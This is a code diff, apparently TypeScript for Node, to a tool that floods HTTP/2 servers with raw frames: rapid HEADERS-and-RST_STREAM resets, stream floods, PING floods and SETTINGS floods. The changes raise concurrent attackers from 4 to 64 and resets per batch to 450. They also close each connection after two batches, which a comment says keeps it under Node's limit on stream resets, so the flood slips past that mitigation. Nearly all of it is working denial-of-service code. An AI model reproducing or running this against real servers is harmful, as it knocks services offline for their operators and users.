@@ -8,7 +8,7 @@ const [kind = "", path = "", seconds = "1"] = process.argv.slice(2);
 const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
 const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [1, 3, 4, 6, 9];
 const [END_STREAM, END_HEADERS] = [1, 4];
-const ATTACKERS = 4;
+const ATTACKERS = 64;
 /** Bytes that wait to be sent before more are made. */
 const AHEAD = 1024 * 1024;
 
@@ -31,11 +31,13 @@ const CALL = Buffer.concat([
   field("te", "trailers"),
 ]);
 const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** Batches of a connection before the next one: Node ends a session after 1,000 resets (streamResetBurst of http2). */
+const BATCHES_EACH: Readonly<Record<string, number>> = { reset: 2 };
 
 /** Frames of one batch, from this stream on. */
 const BATCHES: Readonly<Record<string, (stream: number) => readonly Buffer[]>> = {
   reset: (stream) =>
-    streams(stream, 200).flatMap((one) => [frame(HEADERS, END_HEADERS, one, CALL), frame(RST_STREAM, 0, one, CANCEL)]),
+    streams(stream, 450).flatMap((one) => [frame(HEADERS, END_HEADERS, one, CALL), frame(RST_STREAM, 0, one, CANCEL)]),
   streams: (stream) => streams(stream, 1000).map((one) => frame(HEADERS, END_HEADERS | END_STREAM, one, CALL)),
   ping: () => Array.from({ length: 500 }, () => frame(PING, 0, 0, Buffer.alloc(8))),
   settings: () => Array.from({ length: 500 }, () => frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
@@ -73,8 +75,14 @@ function start(onOpen: (socket: Socket) => void, again: () => void): void {
 function attack(batch: (stream: number) => readonly Buffer[]): void {
   if (isOver()) return;
   let stream = 1;
+  let left = BATCHES_EACH[kind] ?? Number.POSITIVE_INFINITY;
   const send = (socket: Socket): void => {
     while (!isOver() && !socket.destroyed && socket.writableLength < AHEAD) {
+      left -= 1;
+      if (left < 0) {
+        socket.end();
+        return;
+      }
       const bytes = Buffer.concat(batch(stream));
       stream += 2000;
       sent += bytes.length;
